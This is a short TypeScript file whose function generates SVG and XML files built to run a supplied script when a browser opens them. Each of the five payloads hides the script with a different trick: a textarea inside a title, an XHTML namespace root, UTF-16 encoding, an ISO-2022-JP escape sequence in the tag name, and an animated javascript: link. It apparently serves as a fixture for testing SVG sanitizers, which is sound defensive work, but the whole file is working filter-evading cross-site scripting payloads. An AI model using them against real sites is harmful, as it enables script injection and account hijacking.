const SVG = 'xmlns="http://www.w3.org/2000/svg"';

/** SVG files that run a script when a browser opens them, by what hides it; `script` is its text without `<` and `&`. */
export function toAttacks(script: string): Record<string, Uint8Array> {
  const run = `<script>${script}</script>`;
  const link = `<animate attributeName="href" values="javascript:${script}"/>`;
  const utf8 = (text: string) => new TextEncoder().encode(text);
  return {
    'a script in a text field in a title': utf8(
      `<svg ${SVG}><title><textarea>${run}</textarea></title></svg>`,
    ),
    'a root in the XHTML namespace': utf8(
      `<html xmlns="http://www.w3.org/1999/xhtml">${run}</html>`,
    ),
    'a UTF-16 file': Buffer.from(`\ufeff<svg ${SVG}>${run}</svg>`, 'utf16le'),
    'an escape sequence of ISO-2022-JP in a tag name': utf8(
      `<?xml version="1.0" encoding="iso-2022-jp"?>\n<svg ${SVG}>${run.replaceAll('script>', 'scr\u001b(Bipt>')}</svg>`,
    ),
    'an address that an animation gives to a link in a menu in a title': utf8(
      `<svg ${SVG}><title><select><a>${link}<text y="20">A link</text></a></select></title></svg>`,
    ),
  };
}
